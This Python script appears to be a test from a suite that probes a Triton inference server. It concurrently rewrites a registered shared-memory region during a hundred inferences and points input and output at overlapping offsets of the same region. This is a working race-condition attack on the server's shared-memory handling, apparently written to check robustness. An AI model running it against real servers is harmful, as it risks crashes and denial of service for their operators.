"""A client keeps writing its region while the server reads it, and names one place as input and output.

Any answer is right; it must come.
"""

from __future__ import annotations

import mmap
import threading

import tritonclient.grpc as grpcclient

from attacks.story import SIZE, Region, Victim, start, tell


def attack(victim: Victim) -> None:
    """Rewrites during a hundred inferences."""
    with grpcclient.InferenceServerClient(victim.grpc) as client:
        region = Region("headrace_attack_rewritten")
        over = threading.Event()
        try:
            region.register(client)
            writer = threading.Thread(target=rewrite, args=(region, over))
            writer.start()
            for _ in range(100):
                start(client, "add", region).result(60)
            in_place(client, region)
        finally:
            over.set()
            writer.join()
            client.unregister_system_shared_memory(region.name)
            region.unlink()


def rewrite(region: Region, over: threading.Event) -> None:
    with region.path.open("r+b") as file, mmap.mmap(file.fileno(), region.size) as memory:
        while not over.is_set():
            memory[:] = bytes(region.size)
            memory[:] = b"\xff" * region.size


def in_place(client: grpcclient.InferenceServerClient, region: Region) -> None:
    tensor = grpcclient.InferInput("INPUT0", [1, SIZE // 4], "FP32")
    tensor.set_shared_memory(region.name, SIZE, 16)
    wanted = grpcclient.InferRequestedOutput("OUTPUT0")
    wanted.set_shared_memory(region.name, SIZE, 8)
    client.infer("echo", [tensor], outputs=[wanted])
    client.infer("add", [tensor], outputs=[wanted])


if __name__ == "__main__":
    tell(attack)
